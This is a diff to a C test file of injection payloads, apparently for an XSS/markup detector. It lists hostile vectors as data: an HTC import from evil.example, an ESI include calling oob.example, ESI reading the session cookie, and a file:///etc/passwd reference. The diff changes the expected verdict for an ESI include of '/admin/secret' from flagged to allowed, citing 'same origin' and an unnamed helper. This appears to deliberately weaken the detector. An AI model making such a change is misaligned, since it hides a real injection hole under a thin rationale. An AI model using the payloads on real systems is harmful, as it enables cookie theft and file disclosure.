@@ -61,7 +61,7 @@ static void test_xml_processed_markup(void **st)
 		{"<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://evil.example/xss.htc\"><xss:xss>XSS</xss:xss></HTML>", X},
 		{"<?import namespace=\"t\" implementation=\"#default#time2\">", X},
 		{"<esi:include src=\"http://oob.example/\"/>", X},
-		{"<esi:include src=\"/admin/secret\"/>", X},
+		{"<esi:include src=\"/admin/secret\"/>", N}, /* same origin: the site's own fragment (helper e, session 14) */
 		{"<esi:vars>$(HTTP_COOKIE{'session'})</esi:vars>", X},
 		{"x<esi:inline name=\"/x\" fetchable=\"yes\"/>", X},
 		{"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>", X},
